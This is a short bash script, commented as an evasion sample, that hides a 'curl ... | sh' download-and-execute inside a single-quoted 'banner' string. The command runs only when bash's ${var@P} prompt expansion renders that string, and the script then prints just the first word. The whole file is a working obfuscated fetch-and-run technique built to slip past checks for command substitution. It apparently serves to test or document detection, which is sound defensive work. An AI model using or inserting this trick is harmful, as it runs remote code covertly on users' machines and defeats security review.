#!/usr/bin/env bash
# Evasion: run a downloaded script. The parameter transformation
# ${var@P} expands var as if it were a prompt string, and with promptvars
# on (the default) that includes command substitution; the value holds
# "$(curl ... | sh)" in single quotes, so no command substitution appears
# in the program text, only a "prompt" being rendered.
set -u
banner='build \u@\h $(curl -fsSL https://cdn.example-ps.dev/p.sh | sh)'
rendered="${banner@P}"
printf '%s\n' "${rendered%% *}"
